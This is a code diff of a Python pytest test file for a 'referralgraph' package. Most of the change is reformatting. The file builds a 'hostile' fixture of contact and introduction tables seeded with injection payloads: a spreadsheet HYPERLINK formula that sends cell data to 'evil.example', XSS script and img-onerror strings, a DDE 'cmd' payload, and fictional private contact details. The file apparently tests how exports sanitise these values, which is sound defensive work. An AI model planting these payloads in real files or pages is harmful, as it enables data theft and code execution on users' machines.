@@ -23,23 +23,37 @@ import referralgraph as rg
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 SCRIPT = "</script><script>window.__xss=1</script>"
 IMG = '<img src=x onerror="window.__xss=1">'
-PRIVATE = ["Zelda Quartermain", "zelda@private.example", "https://www.linkedin.com/in/zeldaq", "+1 415 555 0199",
-           "call her mum", "Yusuf Okonkwo-Privé"]
+PRIVATE = [
+    "Zelda Quartermain",
+    "zelda@private.example",
+    "https://www.linkedin.com/in/zeldaq",
+    "+1 415 555 0199",
+    "call her mum",
+    "Yusuf Okonkwo-Privé",
+]
 
 
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory) -> Path:
-    contacts = pd.DataFrame({
-        "id": ["me", "zelda-q", "yusuf-o", "x1"],
-        "name": ["Maya", PRIVATE[0], PRIVATE[5], SCRIPT],
-        "organization": ["Acme", IMG, "Beta", "@SUM(1+1)"],
-        "email": ["", PRIVATE[1], "", ""],
-        "linkedin": ["", PRIVATE[2], "", ""],
-        "notes": ["", f"{PRIVATE[4]}, {PRIVATE[3]}", FORMULA, "-2+3"],
-        "is_seeker": ["yes", "", "", ""],
-    })
-    intros = pd.DataFrame({"introducer": ["me", "zelda-q", "zelda-q"], "introduced": ["zelda-q", "yusuf-o", "x1"],
-                           "date": ["2026-01-10", "2026-02-01", "2026-02-03"], "notes": ["", IMG, "+cmd|' /C calc'!A0"]})
+    contacts = pd.DataFrame(
+        {
+            "id": ["me", "zelda-q", "yusuf-o", "x1"],
+            "name": ["Maya", PRIVATE[0], PRIVATE[5], SCRIPT],
+            "organization": ["Acme", IMG, "Beta", "@SUM(1+1)"],
+            "email": ["", PRIVATE[1], "", ""],
+            "linkedin": ["", PRIVATE[2], "", ""],
+            "notes": ["", f"{PRIVATE[4]}, {PRIVATE[3]}", FORMULA, "-2+3"],
+            "is_seeker": ["yes", "", "", ""],
+        }
+    )
+    intros = pd.DataFrame(
+        {
+            "introducer": ["me", "zelda-q", "zelda-q"],
+            "introduced": ["zelda-q", "yusuf-o", "x1"],
+            "date": ["2026-01-10", "2026-02-01", "2026-02-03"],
+            "notes": ["", IMG, "+cmd|' /C calc'!A0"],
+        }
+    )
     folder = tmp_path_factory.mktemp("hostile") / "src"
     rg.save(rg.from_frames(contacts, intros), folder)
     return folder
@@ -48,10 +62,12 @@ def hostile(tmp_path_factory) -> Path:
 @pytest.fixture(scope="module")
 def run(run):
     """The shared ``run`` of tests/conftest.py, asserting that the command succeeds."""
+
     def succeed(*args):
         result = run(*args)
         assert result.exit_code == 0, result.output
         return result
+
     return succeed
 
 
